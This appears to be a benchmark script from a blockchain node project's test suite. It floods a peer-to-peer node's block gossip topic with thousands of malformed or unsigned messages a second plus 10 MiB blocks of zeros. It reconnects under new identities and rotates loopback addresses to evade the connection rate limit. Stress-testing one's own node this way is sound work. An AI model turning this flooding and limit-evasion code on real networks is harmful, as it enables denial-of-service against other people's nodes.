// node bench/gossip/attacker.ts MULTIADDR CHAIN: floods a node with 5,000 messages a second: for a second each garbage, different blocks without a valid
// signature, one such block again and again; 10 MiB of zeros once a second. It connects again, with another identity, when the node closes its connection.
// Runs until it is ended; prints the number of messages sent so far, once a second.
import { setTimeout as delay } from 'node:timers/promises'
import { encodeSnappyBlock } from '#lib/peers/snappy'
import { type Attacker, connectAttacker, frameOf, message, zerosBlock } from '#test/harness/p2p/attacker'
import { blocksTopic, blocksTopics } from '../../src/p2p/protocol/topics.ts'

const [victim = '', chain = ''] = process.argv.slice(2)
const topics = blocksTopics(Number(chain))
const topic = blocksTopic(Number(chain), 3)
const [perSec, frameMs] = [5_000, 10]

const unsigned = new Uint8Array(1_000)
new DataView(unsigned.buffer).setBigUint64(65 + 32 + 428, BigInt(Math.floor(Date.now() / 1_000)), true)
const zeros = zerosBlock(10 * 2 ** 20)
const kinds: readonly ((n: number) => Uint8Array)[] = [
  (n): Uint8Array => Uint8Array.of(0xff, 0xff, 0xff, 0xff, n & 0xff, (n >> 8) & 0xff, n >> 16),
  (n): Uint8Array => {
    new DataView(unsigned.buffer).setUint32(0, n)
    return encodeSnappyBlock(unsigned)
  },
  (): Uint8Array => encodeSnappyBlock(unsigned),
]

let sent = 0
async function attack(attacker: Attacker): Promise<void> {
  for (;;) {
    const kind = kinds[Math.floor(Date.now() / 1_000) % kinds.length]
    const count = (perSec * frameMs) / 1_000
    await attacker.send(frameOf(...Array.from({ length: count }, () => message(topic, kind?.(sent++) ?? unsigned))))
    if (sent % perSec === 0) await attacker.send(frameOf(message(topic, zeros)))
    await delay(frameMs)
  }
}

setInterval(() => process.stdout.write(`${sent}\n`), 1_000)
for (let turn = 0; ; turn++) {
  // an address of the machine each, so that the bound of connections per second does not end the attack
  await using attacker = await connectAttacker(victim, topics, `127.0.1.${1 + (turn % 200)}`).catch(() => undefined)
  if (attacker) await attack(attacker).catch(() => {})
  await delay(500)
}
